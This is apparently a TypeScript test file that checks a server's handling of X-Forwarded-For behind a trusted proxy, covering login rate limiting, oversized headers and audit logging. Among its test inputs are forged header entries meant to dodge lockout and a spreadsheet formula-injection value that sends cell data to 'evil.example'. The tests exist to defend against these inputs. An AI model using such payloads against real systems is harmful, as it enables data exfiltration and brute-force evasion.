import { request } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createNodeServer, type RunningServer } from '../../src/http/node-server.js';
import { proxyTrust } from '../../src/http/client-address.js';
import { DB_KINDS } from '../helpers/db.js';
import { ADMIN_EMAIL, createTestApp, sampleDevice, type TestApp } from '../helpers/app.js';

/** A POST over real HTTP with the headers exactly as given (fetch would refuse some of them). */
function post(port: number, path: string, body: unknown, headers: Record<string, string>): Promise<number> {
  const raw = Buffer.from(JSON.stringify(body));
  return new Promise((resolve, reject) => {
    const req = request(
      {
        host: '127.0.0.1',
        port,
        path,
        method: 'POST',
        headers: { 'content-type': 'application/json', 'content-length': raw.length, ...headers },
      },
      (res) => {
        res.resume();
        res.on('end', () => resolve(res.statusCode!));
      },
    );
    req.on('error', reject);
    req.end(raw);
  });
}

/**
 * The client address behind one trusted proxy (TRUST_PROXY_HOPS=1), on the real node server: the
 * proxy appends the peer it accepted, so a client that writes its own X-Forwarded-For only adds
 * entries to the left, which are never the address that is rate-limited or audited.
 */
describe.each(DB_KINDS)('client address behind a trusted proxy on %s', (kind) => {
  let t: TestApp;
  let http: RunningServer;
  let port: number;
  beforeAll(async () => {
    t = await createTestApp(kind, { TRUST_PROXY_HOPS: '1' });
    http = createNodeServer(t.app.handle, { proxy: proxyTrust(t.config.proxy), logger: t.logs });
    await new Promise<void>((resolve) => http.server.listen(0, '127.0.0.1', resolve));
    port = (http.server.address() as AddressInfo).port;
  });
  afterAll(async () => {
    await http?.close(100);
    await t?.close();
  });

  it('limits 40 wrong logins on one account from one client, each with a different forged left-most entry', async () => {
    const statuses: number[] = [];
    for (let i = 0; i < 40; i++) {
      // the client wrote "10.66.<i>.1"; the proxy appended the address it saw
      const xff = `10.66.${i}.1, 198.51.100.7`;
      statuses.push(await post(port, '/api/v1/admin/login', { email: ADMIN_EMAIL, password: `wrong ${i}` }, { 'x-forwarded-for': xff }));
    }
    expect(statuses.slice(0, 5)).toEqual([401, 401, 401, 401, 401]);
    expect(statuses.slice(5)).toEqual(Array(35).fill(429));
    const buckets = await t.db.db.selectFrom('rate_limits').select('bucket').execute();
    expect(buckets.some((b) => b.bucket.includes('198.51.100.7'))).toBe(true);
    expect(buckets.some((b) => b.bucket.includes('10.66.'))).toBe(false);
    const audited = await t.db.db.selectFrom('audit_log').select('ip').where('action', '=', 'locked_out_login').execute();
    expect(audited.map((a) => a.ip)).toEqual(['198.51.100.7']);
  });

  it('never keys a limit by an 8 KB header, and audits only a valid address', async () => {
    const huge = 'x'.repeat(8 * 1024);
    const statuses: number[] = [];
    for (let i = 0; i < 35; i++) {
      statuses.push(
        await post(
          port,
          '/api/v1/enroll',
          { enrollmentToken: `bad-token-${i}`, device: sampleDevice() },
          { 'x-forwarded-for': `${huge}${i}` },
        ),
      );
    }
    // not a valid address: the socket peer (127.0.0.1) is the client, and its limit (30) holds
    expect(statuses.filter((s) => s === 429).length).toBeGreaterThanOrEqual(5);
    const formula = '=HYPERLINK("http://evil.example/?"&A1)';
    for (let i = 0; i < 6; i++) {
      await post(port, '/api/v1/admin/login', { email: 'someone@example.com', password: 'guess' }, { 'x-forwarded-for': formula });
    }
    const buckets = await t.db.db.selectFrom('rate_limits').select('bucket').execute();
    for (const { bucket } of buckets) {
      expect(bucket.length).toBeLessThan(200);
      expect(bucket).not.toContain('xxxx');
      expect(bucket).not.toContain('HYPERLINK');
    }
    const ips = await t.db.db.selectFrom('audit_log').select('ip').where('ip', 'is not', null).execute();
    expect(ips.length).toBeGreaterThan(1);
    for (const { ip } of ips) expect(ip).toMatch(/^(127\.0\.0\.1|198\.51\.100\.7)$/);
  });
});
